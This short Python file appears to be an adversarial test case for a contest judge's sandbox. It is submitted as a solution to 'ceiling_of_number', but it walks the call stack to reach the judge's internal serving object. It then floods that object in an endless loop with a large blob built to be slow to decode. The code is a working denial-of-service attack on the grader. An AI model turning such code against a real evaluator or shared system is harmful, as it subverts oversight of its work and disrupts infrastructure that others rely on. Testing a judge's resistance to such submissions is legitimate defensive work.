"""Ask the judge's own objects with arguments that take long to decode."""
# problem: ceiling_of_number
# about: answers
# runs with: --all
# verdicts: wrong_answer, runtime_error, time_limit_exceeded

import struct
import sys


def find():
    """Find the serving loop up the stack, and the encoder that it uses."""
    frame = sys._getframe()
    while frame:
        server = frame.f_locals.get("self")
        if hasattr(server, "channel") and hasattr(server, "number"):
            return server, sys.modules["judge.wire"].encode
        frame = frame.f_back
    raise LookupError("no serving loop to attack")

def ceiling_of_number(nums, key):
    server, encode = find()
    sets = 4_000_000
    blob = b"\xc0\xdd" + struct.pack("!I", sets) + b"\xd4\x01\x90" * sets
    while True:
        server.channel.send(server.number, "call", 0, "get", blob)
        server.channel.receive()
